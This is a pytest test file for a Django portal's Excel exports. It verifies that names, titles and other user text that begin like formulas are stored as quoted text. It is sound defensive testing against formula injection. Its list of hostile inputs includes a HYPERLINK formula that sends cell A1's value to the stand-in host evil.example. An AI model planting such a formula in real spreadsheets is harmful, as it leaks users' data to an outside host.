"""Text typed by people is stored as text in every .xlsx the portal writes: a title, a number,
a school name or a comment that begins like a formula is never one."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.exports import FORMULA_STARTS, workbook_bytes
from monitoring.models import MonitoringPoint
from tests import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"нажмите")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells_with(content, texts):
    """(value, data_type) of every cell of the workbook that holds one of `texts`."""
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                for text in texts:
                    if isinstance(cell.value, str) and read_back(text) in read_back(cell.value):
                        found[text] = cell.data_type
    return found


def read_back(text):
    """Text as it reads back from a workbook: openpyxl's own XML writer keeps a carriage return
    as a line feed, lxml's (when installed) keeps it as it was."""
    return text.replace("\r", "\n")


def assert_all_text(content, texts):
    found = cells_with(content, texts)
    assert set(found) == set(texts), f"missing in the workbook: {set(texts) - set(found)}"
    assert set(found.values()) == {"s"}, found


def test_the_core_function_turns_formula_text_into_text_with_a_quote_prefix():
    book = Workbook()
    for text in HOSTILE:
        book.active.append([text, 5])
    content = workbook_bytes(book)
    sheet = load_workbook(io.BytesIO(content)).active
    for row, text in zip(sheet.iter_rows(), HOSTILE, strict=True):
        assert read_back(row[0].value) == read_back(text)
        assert row[0].data_type == "s"
        assert row[0].quotePrefix is True
        assert row[1].data_type == "n"
    assert all(text.startswith(FORMULA_STARTS) for text in HOSTILE)


def test_a_table_export_stores_school_names_as_text(world, as_user):
    for index, text in enumerate(HOSTILE):
        f.OrganizationFactory(municipality=world.municipality, short_name=f"{text} {index}")
    response = as_user(world.coordinator).get(reverse("schools:list") + "?_export=xlsx")
    assert response.status_code == 200
    assert_all_text(response.content, [f"{text} {i}" for i, text in enumerate(HOSTILE)])


def test_a_report_workbook_stores_item_titles_as_text(world, as_user):
    roadmap = f.RoadmapFactory(program=world.program)
    for text in HOSTILE:
        f.RoadmapItemFactory(roadmap=roadmap, title=text, number=text[:16])
    response = as_user(world.coordinator).get(
        reverse("reports:report_xlsx", args=["roadmap", roadmap.pk])
    )
    assert response.status_code == 200
    assert_all_text(response.content, HOSTILE)


def test_the_values_template_stores_school_names_as_text(world, as_user):
    world.supported_school.short_name = "=1+2"
    world.supported_school.save()
    f.IndicatorFactory(program=world.program)
    point = f.MonitoringPointFactory(program=world.program, kind=MonitoringPoint.Kind.BASELINE)
    response = as_user(world.coordinator).get(
        reverse("monitoring:import_values_template", args=[world.program.pk]) + f"?point={point.pk}"
    )
    assert response.status_code == 200
    assert_all_text(response.content, ["=1+2"])


def test_the_school_template_stores_municipality_names_as_text(world, as_user):
    world.municipality.name = "=2+2 район"
    world.municipality.save()
    response = as_user(world.coordinator).get(reverse("schools:import_template"))
    assert response.status_code == 200
    assert_all_text(response.content, ["=2+2 район"])
